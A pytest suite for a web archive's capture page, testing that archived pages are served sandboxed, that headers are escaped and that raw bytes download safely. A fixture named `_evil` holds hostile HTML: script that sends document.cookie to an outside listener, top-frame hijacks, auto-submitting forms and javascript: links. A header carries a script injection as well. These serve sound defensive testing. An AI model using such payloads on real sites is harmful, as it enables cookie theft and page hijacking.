"""A capture's page: the facts, the bytes, and a frame in which the captured page can do nothing."""

from __future__ import annotations

import http.client
import socket
import sqlite3
import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser

from pipeline.store import Archive, nearby_reading
from pipeline.web.pages.captures import as_frame
from tests.archiving import NOON, article, capture, store, visit
from tests.browsing import needs_chromium, served

PLAIN, ARABIC, BINARY, DAMAGED, UNKEPT, GIVEN_UP, HEADED = range(1, 8)
"""The captures of `site`."""
WORDS = "مرحبا بكم"
STRANGE = (("X-Strange", "<script>document.title='stolen'</script>\u202e"), ("Content-Type", "text/html"))


def _ask(site: str, path: str, **headers: str) -> tuple[int, dict[str, str], bytes]:
    connection = http.client.HTTPConnection(urlsplit(site).netloc, timeout=30)
    connection.request("GET", path, headers={name.replace("_", "-"): value for name, value in headers.items()})
    answer = connection.getresponse()
    found = answer.status, {name.lower(): value for name, value in answer.getheaders()}, answer.read()
    connection.close()
    return found


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("captures") / "archive.db"
    answers: tuple[dict[str, object], ...] = (
        {"body": b"<html>plain</html>", "redirects": ("https://www.example.net/old",)},
        {"body": f"<html><p>{WORDS}</p></html>".encode("cp1256"), "encoding": "windows-1256"},
        {"body": b"\x89PNG\x00\x01", "encoding": None, "headers": (("Content-Type", "image/png"),)},
        {"body": b"<html>was whole</html>"},
        {"body": b"<html>unkept</html>"},
        {"body": b"<html>given up</html>"},
        {"body": b"<html>headed</html>", "headers": STRANGE, "truncated": True},
    )
    with Archive.open(path) as opened:
        store(opened, *(visit(article(number), capture=given) for number, given in enumerate(answers, start=1)))
    _spoil(path)
    return path


def _spoil(path: Path) -> None:
    with closing(sqlite3.connect(path)) as conn, conn:
        swap = "UPDATE payloads SET body = (SELECT body FROM payloads WHERE id = ?), dictionary_id = NULL WHERE id = ?"
        conn.execute(swap, (PLAIN, DAMAGED))
        conn.execute("UPDATE captures SET payload_id = NULL WHERE id = ?", (UNKEPT,))
        conn.execute("UPDATE articles SET capture_id = NULL WHERE capture_id = ?", (GIVEN_UP,))
        conn.execute("UPDATE outcomes SET capture_id = NULL WHERE capture_id = ?", (GIVEN_UP,))
        conn.execute("DELETE FROM captures WHERE id = ?", (GIVEN_UP,))


@pytest.fixture(scope="module")
def site(archive: Path) -> Iterator[str]:
    with served(archive) as url:
        yield url


def _words(site: str, path: str) -> tuple[int, str]:
    status, _, body = _ask(site, path)
    return status, body.decode()


# What is known of it.


def test_the_facts_of_an_answer_are_told(site: str) -> None:
    status, text = _words(site, f"/capture/{PLAIN}")
    assert status == 200
    for said in ("https://www.example.net/akhbar/1", "https://www.example.net/old", "allowed", "utf-8", "sha256"):
        assert said in text
    assert "checked just now" in text
    assert 'href="/article/1"' in text


def test_q4_headers_are_text(site: str) -> None:
    _, text = _words(site, f"/capture/{HEADED}")
    assert "&lt;script&gt;document.title" in text
    assert "<script>document" not in text
    assert "\u202e" not in text
    assert "ended before it was whole" in text


def test_the_bytes_are_an_attachment(site: str) -> None:
    status, headers, body = _ask(site, f"/capture/{ARABIC}?raw=download")
    assert (status, body) == (200, f"<html><p>{WORDS}</p></html>".encode("cp1256"))
    assert headers["content-disposition"] == f'attachment; filename="capture-{ARABIC}.html"'
    assert headers["content-type"] == "application/octet-stream"
    assert headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in headers["content-security-policy"]


def test_the_page_is_sent_as_it_was_decoded(site: str) -> None:
    status, headers, body = _ask(site, f"/capture/{ARABIC}/view", Sec_Fetch_Dest="iframe")
    assert status == 200
    assert headers["content-type"] == "text/html; charset=utf-8"
    assert WORDS in body.decode()


def test_q4_the_page_has_a_policy_of_its_own(site: str) -> None:
    _, headers, _ = _ask(site, f"/capture/{PLAIN}/view")
    policy = [part.strip() for part in headers["content-security-policy"].split(";")]
    assert policy[:2] == ["sandbox", "default-src 'none'"]
    assert "frame-ancestors 'self'" in policy
    assert not any("script" in part or "allow-" in part for part in policy)
    assert "access-control-allow-origin" not in headers


def test_q4_the_page_by_itself_leads_to_the_page_of_its_frame(site: str) -> None:
    status, headers, _ = _ask(site, f"/capture/{PLAIN}/view", Sec_Fetch_Dest="document")
    assert (status, headers["location"]) == (302, f"/capture/{PLAIN}")


def test_what_is_no_text_is_only_a_download(site: str) -> None:
    assert "<iframe" not in _words(site, f"/capture/{BINARY}")[1]
    assert _ask(site, f"/capture/{BINARY}/view")[0] == 404
    status, headers, body = _ask(site, f"/capture/{BINARY}?raw=download")
    assert (status, body) == (200, b"\x89PNG\x00\x01")
    assert headers["content-disposition"].endswith('.bin"')


@pytest.mark.parametrize("path", [f"/capture/{DAMAGED}/view", f"/capture/{DAMAGED}?raw=download"])
def test_a_damaged_capture_is_refused(site: str, path: str) -> None:
    status, text = _words(site, path)
    assert status == 500
    assert "This capture is damaged" in text
    assert "plain" not in text


def test_a_damaged_capture_still_has_its_facts(site: str) -> None:
    status, text = _words(site, f"/capture/{DAMAGED}")
    assert status == 200
    assert "This capture is damaged" in text
    assert "<iframe" not in text
    assert "raw=download" not in text


@pytest.mark.parametrize("path", ["", "?raw=download"])
def test_a_capture_that_was_given_up_says_so(site: str, path: str) -> None:
    status, text = _words(site, f"/capture/{GIVEN_UP}{path}")
    assert status == 410
    assert "This capture was given up" in text


def test_a_body_that_was_not_kept_says_so(site: str) -> None:
    assert "was not kept" in _words(site, f"/capture/{UNKEPT}")[1]
    assert _words(site, f"/capture/{UNKEPT}?raw=download")[0] == 404
    assert _words(site, f"/capture/{UNKEPT}/view")[0] == 404


@pytest.mark.parametrize("number", ["0", "999", "9" * 18])
@pytest.mark.parametrize("rest", ["", "/view", "?raw=download"])
def test_a_capture_that_never_was_is_missing(site: str, number: str, rest: str) -> None:
    assert _words(site, f"/capture/{number}{rest}")[0] == 404


@pytest.mark.parametrize("rest", ["", "/view", "?raw=download"])
def test_in_public_captures_are_left_out_with_words(archive: Path, rest: str) -> None:
    with served(archive, is_public=True) as url:
        status, text = _words(url, f"/capture/{PLAIN}{rest}")
    assert status == 404
    assert "works of those who published them" in text


@pytest.mark.parametrize(
    ("media_type", "shown_as"),
    [
        ("text/html; charset=x", "text/html"),
        ("application/xhtml+xml", "text/html"),
        ("", "text/html"),
        ("text/plain", "text/plain"),
        ("application/rss+xml", "text/plain"),
        ("application/json", "text/plain"),
    ],
)
def test_only_pages_are_shown_as_pages(media_type: str, shown_as: str) -> None:
    assert as_frame(capture("https://a.b/", headers=(("Content-Type", media_type),)))[1] == shown_as


@pytest.mark.parametrize(
    ("tag", "inert"),
    [
        ("<link rel=preconnect>", "<basefont rel=preconnect>"),
        ("<LINK\n>", "<basefont\n>"),
        ("<meta/http-equiv=refresh>", "<basefont/http-equiv=refresh>"),
        ("<Base href=x>", "<basefont href=x>"),
        ("<a/href=x>", '<a href="#"/href=x>'),
        ("<iframe src=x>", '<iframe src="" srcdoc="" src=x>'),
        ("<article><abbr>", "<article><abbr>"),
    ],
)
def test_q4_what_reaches_out_is_inert(tag: str, inert: str) -> None:
    assert as_frame(capture("https://a.b/", body=f"<html>{tag}".encode()))[0] == f"<html>{inert}"


def test_captures_are_asked_for_through_indexes(archive: Path) -> None:
    with closing(sqlite3.connect(f"file:{archive}?mode=ro", uri=True)) as conn:
        assert [line.article_id for line in nearby_reading.read_from(conn, PLAIN, 10)] == [1]
        assert nearby_reading.other_looks(conn, PLAIN, 10) == ()
        plan = [row[3] for row in conn.execute(f"EXPLAIN QUERY PLAN {nearby_reading.READ_FROM}", (PLAIN, 10))]
    assert not [step for step in plan if step.startswith("SCAN") and "INDEX" not in step and "TEMP" not in step]
    assert any("articles_capture" in step for step in plan)
    assert any("versions_capture" in step for step in plan)


def test_other_captures_of_the_address_are_named(tmp_path: Path) -> None:
    path = tmp_path / "archive.db"
    with Archive.open(path) as opened:
        store(opened, *(visit(article(1), at=NOON.replace(hour=hour)) for hour in (12, 13, 14)))
    with served(path) as url:
        text = _words(url, "/capture/2")[1]
    assert text.index('href="/capture/3"') < text.index('href="/capture/1"')


# The frame, in a browser that is attacked.


@contextmanager
def _outside() -> Iterator[tuple[str, list[str]]]:
    """A place on another origin that notes every connection made to it."""
    seen: list[str] = []

    def listen(listener: socket.socket) -> None:
        while True:
            try:
                connection, address = listener.accept()
            except OSError:
                return
            seen.append(str(address))
            connection.close()

    with socket.create_server(("127.0.0.1", 0)) as listener:
        thread = threading.Thread(target=listen, args=(listener,), daemon=True)
        thread.start()
        try:
            yield f"http://127.0.0.1:{listener.getsockname()[1]}", seen
        finally:
            listener.shutdown(socket.SHUT_RDWR)
            thread.join(timeout=10)


def _evil(outside: str) -> bytes:
    return f"""<!doctype html><html><head>
<base href="{outside}/base/">
<link rel="preconnect" href="{outside}"><link rel="dns-prefetch" href="{outside}">
<link rel="prefetch" href="{outside}/p"><link rel="stylesheet" href="{outside}/s.css">
<meta http-equiv="refresh" content="0;url={outside}/refresh">
<meta http-equiv="set-cookie" content="planted=1">
<style>@import url("{outside}/import.css"); @font-face {{ font-family: f; src: url("{outside}/f") }}
body {{ font-family: f; background: url("{outside}/bg.png"); color: rgb(1, 2, 3) }}</style>
<script src="{outside}/x.js"></script>
<script>top.document.title='stolen'; fetch('{outside}/'+document.cookie)</script>
<script>top.location='{outside}/top'</script>
</head><body onload="top.document.title='stolen'; document.forms[0].submit()">
<p id="words">{WORDS}</p><img src="{outside}/i.png" onerror="top.document.title='stolen'"><img src="relative.png">
<img srcset="{outside}/set.png 1x"><video src="{outside}/v" autoplay poster="{outside}/poster"></video>
<audio src="{outside}/a" autoplay></audio>
<iframe src="{outside}/frame"></iframe><iframe srcdoc="<script>top.document.title='stolen'</script>"></iframe>
<object data="{outside}/object"></object><embed src="{outside}/embed">
<svg><image href="{outside}/svg.png"/><script>top.document.title='stolen'</script>
<animate onbegin="top.document.title='stolen'" attributeName="x" dur="1s"/></svg>
<form action="{outside}/form"><input name="q" value="1" autofocus onfocus="top.document.title='stolen'">
<button id="send">send</button></form>
<a id="same" href="{outside}/same" ping="{outside}/ping">same</a> <a id="top" target="_top" href="{outside}/top">top</a>
<a id="new" target="_blank" href="{outside}/new">new</a>
<a id="script" href="javascript:top.document.title='stolen'">script</a>
</body></html>""".encode()


@needs_chromium
def test_q4_a_captured_page_can_do_nothing(tmp_path: Path, chromium: Browser) -> None:
    path = tmp_path / "archive.db"
    with _outside() as (outside, seen):
        with Archive.open(path) as opened:
            store(opened, visit(article(1), capture={"body": _evil(outside)}))
        with served(path) as url, closing(chromium.new_context()) as context:
            context.add_cookies([{"name": "warraq_theme", "value": "dark", "url": url}])
            page = context.new_page()
            page.goto(f"{url}/capture/1")
            page.locator("iframe").scroll_into_view_if_needed()
            frame = page.frame_locator("iframe")
            frame.locator("#words").wait_for(timeout=15_000)
            assert frame.locator("#words").inner_text() == WORDS
            assert frame.locator("body").evaluate("body => getComputedStyle(body).color") == "rgb(1, 2, 3)"
            assert frame.locator("body").evaluate("body => body.baseURI").startswith(url)
            assert frame.locator("body").evaluate("() => self.origin") == "null"
            for name in ("send", "script", "new", "top", "same"):
                frame.locator(f"#{name}").click(timeout=5000)
                page.wait_for_timeout(150)
            assert page.url == f"{url}/capture/1"
            assert page.title() == "Capture \u20681\u2069 · Warraq"
            assert page.locator("main iframe").count() == 1
            assert context.pages == [page]
            assert {cookie["name"] for cookie in context.cookies()} == {"warraq_theme"}
    assert seen == []


@needs_chromium
def test_q4_the_dom_and_the_cookies_are_out_of_reach(archive: Path, site: str, chromium: Browser) -> None:
    """Even a script that somebody runs in the frame by hand is of another origin."""
    with closing(chromium.new_context()) as context:
        context.add_cookies([{"name": "warraq_theme", "value": "dark", "url": site}])
        page = context.new_page()
        page.goto(f"{site}/capture/{ARABIC}")
        page.locator("iframe").scroll_into_view_if_needed()
        body = page.frame_locator("iframe").locator("body")
        body.wait_for()
        assert body.inner_text().strip() == WORDS
        attempt = "(_, code) => { try { return String(eval(code)) } catch (error) { return error.name } }"
        for code in ("document.cookie", "top.document.title", "localStorage.length"):
            assert body.evaluate(attempt, code) in ("SecurityError", "EvalError")
